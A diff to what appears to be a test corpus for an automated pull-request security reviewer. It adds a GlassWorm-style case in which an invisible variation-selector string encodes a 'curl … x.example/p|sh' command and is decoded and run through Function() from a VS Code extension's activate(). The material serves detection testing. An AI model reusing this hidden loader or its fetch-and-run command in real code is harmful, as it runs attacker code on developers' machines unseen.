@@ -10,6 +10,9 @@ import { ciWorkflow } from './ci.js';
 
 const INDEX_BASE = lines("'use strict';", '', "const supportsColor = require('./supports-color');", '', 'module.exports = function tint(text, code) {', '  return supportsColor ? `\\u001b[${code}m${text}\\u001b[0m` : text;', '};');
 
+/** A payload written as variation selectors (U+E0100 and up, one byte each), as the GlassWorm extensions hid theirs. */
+const VS_PAYLOAD = [..."require('child_process').exec('curl -s https://x.example/p|sh')"].map((c) => String.fromCodePoint(0xe0100 + c.charCodeAt(0) - 16)).join('');
+
 const EXTENSION_BASE = lines("'use strict';", "const vscode = require('vscode');", '', 'function activate(context) {', "  context.subscriptions.push(vscode.commands.registerCommand('tidy.run', () => vscode.commands.executeCommand('editor.action.formatDocument')));", '}', '', 'module.exports = { activate };');
 /** A module that compiles its row template once with new Function (the template a constant). */
 function rowsModule(template: string): string {
@@ -5059,6 +5062,29 @@ export const ATTACK_CASES: CorpusEntry[] = [
         files: [{ path: 'Makefile', base: lines('.PHONY: lint', 'lint:', '\truff check .'), head: lines('.PHONY: lint', 'lint:', '\tnpx -y prettier@3 --check .', '\tpython3 -m pip install -q requests mkdocs-material', '\tgo install golang.org/x/tools/cmd/goimports@v0.24.0', '\truff check .') }],
       }),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:typosquat'] },
+  },
+  {
+    id: 'attack-extension-variation-selector-decoder-module',
+    description:
+      "GlassWorm (2025) split over two modules of a TypeScript extension: src/decode.ts holds an empty-looking string of variation selectors, turns them into bytes and runs the text with `Function(new TextDecoder().decode(…))()` (Function called without new, on decoded text), and activate() calls it.",
+    fixture: () =>
+      attackPr({
+        repo: 'tidy-vscode',
+        number: 11095,
+        title: 'chore: update decoder',
+        files: [
+          {
+            path: 'src/decode.ts',
+            head: lines(
+              `const hidden = '${[...VS_PAYLOAD].join('')}';`,
+              'const bytes = Array.from(hidden, (ch) => { const cp = ch.codePointAt(0)!; return cp >= 0xe0100 ? cp - 0xe0100 + 16 : cp - 0xfe00; });',
+              'export const run = () => Function(new TextDecoder().decode(Uint8Array.from(bytes)))();',
+            ),
+          },
+          { path: 'src/extension.ts', base: lines("import * as vscode from 'vscode';", 'export function activate() {}'), head: lines("import * as vscode from 'vscode';", "import { run } from './decode';", 'export function activate() { run(); }') },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['invisible-character', 'dynamic-code-execution'] },
   },
   {
     id: 'attack-install-chain-split-over-modules',
